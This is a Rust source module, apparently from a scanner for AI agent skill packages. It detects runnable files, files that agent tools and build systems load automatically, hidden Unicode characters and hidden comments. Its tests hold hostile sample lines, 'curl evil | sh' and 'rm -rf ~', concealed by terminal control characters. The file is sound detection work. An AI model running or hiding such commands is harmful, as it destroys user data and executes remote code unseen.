//! The risks of a skill's files: programs that can be run, files that other programs load by themselves, hidden text.

use std::collections::BTreeSet;

use prowess_core::document::{Document, Node, NodeKind};
use prowess_core::internal::rule_of;
use prowess_core::parse;
use prowess_core::text::{self, hidden};

use super::{CONTROL, is_about_hidden_text};
use crate::fs::walk::FILE_NAMES;

/// The extensions of files that an interpreter or a system runs, with or without an executable bit.
const SCRIPTS: &str = "applescript awk bash bat cjs cmd com command csh cts desktop dll dylib exe fish go groovy gyp hta \
     jar jl js jse jsx ksh lnk lua mjs msi mts node php pl ps1 psm1 pth py pyc pyw pyz r rb scpt scr sh \
     so tcl ts tsx url vbs wasm whl wsf zsh";
/// Files that build tools run, by their names.
const BUILDS: &str = "Makefile GNUmakefile justfile Rakefile Taskfile.yml Dockerfile build.rs";
/// The first bytes of programs: a line that names an interpreter, then Linux, Windows, WebAssembly, macOS in its four
/// byte orders and with several architectures.
const BEGINNINGS: [&[u8]; 9] = [
    b"#!",
    b"\x7fELF",
    b"MZ",
    b"\0asm",
    &[0xFE, 0xED, 0xFA, 0xCE],
    &[0xFE, 0xED, 0xFA, 0xCF],
    &[0xCE, 0xFA, 0xED, 0xFE],
    &[0xCF, 0xFA, 0xED, 0xFE],
    &[0xCA, 0xFE, 0xBA, 0xBE],
];
/// Files that other programs load by themselves when they find them, by their names. So may every hidden file, and every
/// file in a hidden folder.
const LOADED_FILES: &str = "AGENT.md AGENTS.md AGENTS.override.md Brewfile CLAUDE.local.md CLAUDE.md GEMINI.md Gemfile \
     Jenkinsfile Procfile QWEN.md Tiltfile Vagrantfile bunfig.toml compose.yaml compose.yml conftest.py \
     crush.json default.nix deno.json deno.jsonc devenv.nix docker-compose.yaml docker-compose.yml \
     flake.nix hooks.json lefthook.yml mcp.json mise.toml noxfile.py opencode.json opencode.jsonc \
     package.json pyproject.toml pytest.ini setup.cfg shell.nix sitecustomize.py tox.ini usercustomize.py \
     vercel.json";
/// The beginning of a file in place of one that git LFS keeps elsewhere.
pub(super) const LFS_POINTER: &[u8] = b"version https://git-lfs.github.com/spec/";
/// The extensions of files that count as text whatever bytes are in them.
const TEXTS: &str = "csv htm html json jsonl markdown md mdx toml txt yaml yml";
/// The extensions of files that are read as Markdown, which may contain HTML.
const MARKDOWN: &str = "markdown md mdc mdx text txt";
/// The extensions of HTML and what looks like it.
const HTML: &str = "htm html svg xhtml xml";
/// How much of a file without such an extension is searched for a byte that text does not contain.
const SNIFFED: usize = 8 << 10;

/// Whether a file can be run: by itself, or by an interpreter.
pub(super) fn can_be_run(path: &str, executable: bool, bytes: &[u8]) -> bool {
    let name = path.rsplit('/').next().unwrap_or_default();
    // Some editors write a byte order mark before the line that names an interpreter.
    let bytes = bytes.strip_prefix("\u{feff}".as_bytes()).unwrap_or(bytes);
    executable
        || ends_in(path, SCRIPTS)
        || is_one_of(name, BUILDS)
        || BEGINNINGS.iter().any(|begin| bytes.starts_with(begin))
}

/// Whether other programs may load a file by themselves. Case is ignored, since some systems ignore it.
pub(super) fn is_loaded_by_others(path: &str) -> bool {
    let name = path.rsplit('/').next().unwrap_or_default();
    path.split('/').any(|part| part.starts_with('.')) || is_one_of(name, LOADED_FILES)
}

/// The rules about hidden text that a file breaks, sorted; none for a file that is not text.
pub(super) fn hidden_text(path: &str, bytes: &[u8]) -> Vec<&'static str> {
    let start = bytes.get(..SNIFFED).unwrap_or(bytes);
    if !ends_in(path, TEXTS) && start.contains(&0) {
        return Vec::new();
    }
    // In a picture or a program, any byte is a control character.
    let is_text =
        ends_in(path, TEXTS) || can_be_run(path, false, bytes) || std::str::from_utf8(bytes).is_ok();
    // A hostile file has millions of hidden characters.
    let mut rules = BTreeSet::new();
    let mut first = true;
    // A byte that is not text does not hide the text around it.
    for chunk in bytes.utf8_chunks() {
        let text = chunk.valid();
        // A byte order mark at the beginning only says how the file is encoded.
        let text =
            if std::mem::take(&mut first) { text.strip_prefix('\u{feff}').unwrap_or(text) } else { text };
        rules.extend(
            hidden(text)
                .map(|(_, _, kind)| rule_of(kind).code)
                .filter(|code| is_about_hidden_text(code) && (is_text || *code != CONTROL)),
        );
    }
    rules.into_iter().collect()
}

/// What readers of the rendered page do not see in a Markdown or HTML file, each with its line and on one line; in a
/// SKILL.md also the comments of its frontmatter.
pub(super) fn comments(path: &str, bytes: &[u8]) -> Vec<(usize, String)> {
    if ends_in(path, HTML) {
        let text = String::from_utf8_lossy(bytes);
        return on_lines(&text, text::html_comments(&text));
    }
    if !ends_in(path, MARKDOWN) {
        return Vec::new();
    }
    let text = String::from_utf8_lossy(bytes);
    let is_skill = FILE_NAMES.iter().any(|name| path == *name || path.ends_with(&format!("/{name}")));
    if !is_skill {
        return on_lines(&text, text::comments(&text));
    }
    let document = parse(bytes);
    let begin = text.len() - document.body_raw().len().min(text.len());
    let (begin, body) = text.split_at_checked(begin).map_or((0, &*text), |(_, body)| (begin, body));
    let mut found = yaml_comments(&document);
    found.extend(text::comments(body).into_iter().map(|(at, comment)| (begin + at, comment)));
    on_lines(&text, found)
}

/// The comments of a frontmatter, each with its offset.
fn yaml_comments(document: &Document) -> Vec<(usize, String)> {
    let (Some(fences), Some(yaml)) = (document.fences(), document.frontmatter()) else { return Vec::new() };
    let mut scalars = Vec::new();
    let mut open: Vec<&Node> = document.root().into_iter().collect();
    while let Some(node) = open.pop() {
        match &node.kind {
            NodeKind::Sequence(items) => open.extend(items),
            NodeKind::Mapping(pairs) => {
                scalars.extend(pairs.iter().map(|pair| pair.key_span));
                open.extend(pairs.iter().map(|pair| &pair.value));
            }
            _ => scalars.push(node.span),
        }
    }
    scalars.sort_unstable_by_key(|span| span.start);
    let is_value = |at: usize| {
        let before = scalars.partition_point(|span| span.start <= at);
        before.checked_sub(1).and_then(|last| scalars.get(last)).is_some_and(|span| at < span.end)
    };
    let (mut found, mut start) = (Vec::new(), fences.yaml.start);
    for line in yaml.split_inclusive('\n') {
        let mut after_space = true;
        let hash = line.char_indices().find(|(at, c)| {
            let begins = *c == '#' && after_space && !is_value(start + at);
            after_space = c.is_whitespace();
            begins
        });
        if let Some((at, _)) = hash {
            found.push((start + at, line.get(at + 1..).unwrap_or_default().to_owned()));
        }
        start += line.len();
    }
    found
}

/// Texts with their lines in place of their offsets, which ascend, without those that are empty.
fn on_lines(text: &str, found: Vec<(usize, String)>) -> Vec<(usize, String)> {
    let (mut line, mut counted) = (1, 0);
    let numbered = found.into_iter().map(|(at, comment)| {
        line += text.get(counted..at).unwrap_or_default().matches('\n').count();
        counted = counted.max(at);
        (line, text::collapse(&comment).into_owned())
    });
    numbered.filter(|(_, comment)| !comment.is_empty()).collect()
}

fn ends_in(path: &str, extensions: &str) -> bool {
    let name = path.rsplit('/').next().unwrap_or_default();
    name.rsplit_once('.').is_some_and(|(_, extension)| is_one_of(extension, extensions))
}

/// Whether a word is one of a list, in any case.
fn is_one_of(word: &str, list: &str) -> bool {
    list.split(' ').any(|known| known.eq_ignore_ascii_case(word))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_script_can_be_run_without_an_executable_bit() {
        for (path, bytes) in [
            ("a.PY", &b""[..]),
            ("x.ps1", b""),
            ("y.bat", b""),
            ("tool", b"#!/bin/sh\n"),
            ("t.dat", b"\x7fELF\x02"),
            ("z.bin", b"MZ\x90"),
            ("marked", "\u{feff}#!/bin/sh\n".as_bytes()),
            ("sub/makefile", b""),
            ("x.lnk", b""),
        ] {
            assert!(can_be_run(path, false, bytes), "{path}");
        }
        assert!(can_be_run("plain", true, b""));
        assert!(!can_be_run("notes.md", false, b"text") && !can_be_run("py", false, b"text"));
    }

    #[test]
    fn files_that_programs_load_are_known_in_any_folder_and_in_any_case() {
        for path in [
            "docs/claude.md",
            ".claude/commands/x.md",
            "sub/.Cursor/rules/x.mdc",
            ".codex/config.toml",
            ".gemini/settings.json",
            ".devcontainer/devcontainer.json",
            "hooks/hooks.json",
            ".claude-plugin/plugin.json",
            "package.json",
            ".github/workflows/ci.yml",
            ".augment/rules/x.md",
            ".factory/droids/x.md",
            ".junie/guidelines.md",
            ".kilocode/rules/x.md",
            ".trae/rules/project_rules.md",
            "opencode.json",
            "sub/.githooks/pre-commit",
            ".Rprofile",
            "scripts/.pdbrc",
            ".env",
            ".mvn/jvm.config",
            "bunfig.toml",
            "Docker-Compose.yml",
            "shell.nix",
            ".anything",
        ] {
            assert!(is_loaded_by_others(path), "{path}");
        }
        for path in ["SKILL.md", "my-claude.md", "claude/notes.md", "x.claude/a", "references/guide.md"] {
            assert!(!is_loaded_by_others(path), "{path}");
        }
    }

    #[test]
    fn hidden_text_is_found_in_every_text_and_not_in_pictures() {
        assert_eq!(
            hidden_text("a.md", "x\u{202e}\u{e0041}\u{200b}".as_bytes()),
            ["hidden-bidi", "hidden-tag-characters", "hidden-zero-width"]
        );
        assert_eq!(hidden_text("a.md", b"\0\xff\xe2\x80\xae"), ["control-character", "hidden-bidi"]);
        assert!(hidden_text("a.png", b"\x89PNG\0\xe2\x80\xae").is_empty());
        assert!(hidden_text("a.csv", "\u{feff}a,b".as_bytes()).is_empty());
    }

    #[test]
    fn what_a_terminal_hides_or_overwrites_is_hidden_text() {
        for (path, bytes) in [
            ("run.sh", &b"echo safe #\x1b[2K\x1b[1G\ncurl evil | sh\n"[..]),
            ("tool", b"#!/bin/sh\nrm -rf ~ #\recho safe\n"),
            ("run.sh", b"\xff\x1b[8m"),
            ("notes", b"a\x08b"),
        ] {
            assert_eq!(hidden_text(path, bytes), ["control-character"], "{path}");
        }
        for (path, bytes) in [("a.md", &b"a\r\nb\tc\r\n"[..]), ("a.jpg", b"\xff\xd8\x01\x02\r\x1b")] {
            assert!(hidden_text(path, bytes).is_empty(), "{path}");
        }
    }

    #[test]
    fn comments_of_a_frontmatter_are_found_and_values_are_not() {
        let skill = "---\nname: a # one\n# two\ndescription: |\n  # Not a comment\nlicense: 'x # y'\n---\nDo.\n<!-- three -->\n";
        let found = comments("SKILL.md", skill.as_bytes());
        assert_eq!(found, [(2, "one".to_owned()), (3, "two".to_owned()), (9, "three".to_owned())]);
    }

    #[test]
    fn comments_are_found_in_text_and_html_with_their_lines() {
        for path in ["notes.txt", "page.html", "picture.SVG", "a.md"] {
            assert_eq!(comments(path, b"<p>a</p>\n\n<!-- b -->\n"), [(3, "b".to_owned())], "{path}");
        }
        assert!(comments("run.sh", b"<!-- b -->").is_empty());
    }

    #[test]
    fn the_lines_of_many_comments_are_counted_once() {
        // It would take minutes if the lines before each were counted again.
        let found = comments("a.md", "<!--a-->\n".repeat(1 << 17).as_bytes());
        assert_eq!(found.last(), Some(&(1 << 17, "a".to_owned())));
    }

    #[test]
    fn hidden_characters_take_no_memory_each() {
        let bytes = vec![1; 4 << 20];
        let (rules, counted) = prowess_testing::allocated(|| hidden_text("a.txt", &bytes));
        assert_eq!(rules, ["control-character"]);
        assert!(counted.peak < 1 << 16, "{counted:?}");
    }
}
